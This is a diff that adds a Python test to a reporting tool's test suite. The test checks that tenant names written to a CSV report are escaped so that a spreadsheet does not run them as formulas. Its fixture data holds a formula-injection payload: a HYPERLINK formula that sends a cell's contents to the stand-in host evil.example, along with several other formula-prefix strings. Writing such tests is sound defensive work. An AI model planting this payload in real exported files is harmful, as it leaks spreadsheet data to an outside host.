@@ -397,3 +397,19 @@ def test_html_report_is_self_contained_and_renders_its_charts_in_headless_chromi
 
 def test_report_of_nothing_says_where_it_looked(tmp_path):
     assert main(["report", str(tmp_path / "missing")]) == 4
+
+
+def test_csv_report_escapes_tenant_text_a_spreadsheet_would_run_as_a_formula(tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    rows = _speech_rows("night-x", 8, 1, DAY1, "h100")
+    for i, row in enumerate(rows):
+        row["tenant"] = hostile[i % len(hostile)]
+    _write_run(tmp_path / "out", "night-x", "transcribe", rows, DAY1, 3.0)
+    out = ["--format", "csv", "--out", str(tmp_path / "csv")]
+    assert main(["report", str(tmp_path / "out"), "--by", "tenant", *out]) == 0
+    with open(tmp_path / "csv" / "by_tenant.csv") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    tenants = [c for c in cells if any(h in c for h in hostile)]
+    assert sorted(tenants) == sorted("'" + h for h in hostile)
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    assert all(float(c) <= 0 for c in cells if c.startswith("-"))  # only numbers may
